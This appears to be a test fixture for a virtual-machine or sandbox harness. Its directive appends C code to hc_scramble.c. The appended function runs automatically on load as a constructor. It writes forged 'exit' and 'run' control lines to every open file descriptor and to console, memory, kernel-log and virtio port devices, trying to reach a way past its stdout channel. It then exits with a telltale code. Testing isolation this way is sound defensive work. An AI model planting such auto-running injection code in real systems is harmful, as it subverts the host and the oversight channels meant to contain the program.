//@ why It looks for a way around its stdout: the ports to the PC, files left open. If it finds one it ends all.
//@ append vmm/call/hc_scramble.c
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void
attack(void)
{
    static const char text[] = "exit 0 0 0 0\nrun 0 0 0 0\n";
    static const char *const names[] = {"/dev/duet.status", "/dev/duet.stdout", "/dev/duet.stderr", "/dev/hvc0",
                                        "/dev/ttyS0",       "/dev/mem",         "/dev/kmsg",        "/dev/vport0p1"};
    int wrote = 0;

    for (int fd = 3; fd < 1024; fd++)
        wrote += write(fd, text, sizeof(text) - 1) > 0;
    for (unsigned i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        int fd = open(names[i], O_WRONLY | O_NONBLOCK | O_NOCTTY);

        if (fd < 0)
            continue;
        wrote += write(fd, text, sizeof(text) - 1) > 0;
        close(fd);
    }
    for (int device = 0; device < 4; device++)
        for (int port = 0; port < 10; port++) {
            char name[32];

            snprintf(name, sizeof(name), "/dev/vport%dp%d", device, port);
            wrote += open(name, O_WRONLY | O_NONBLOCK) >= 0;
        }
    if (wrote)
        _exit(99);
}
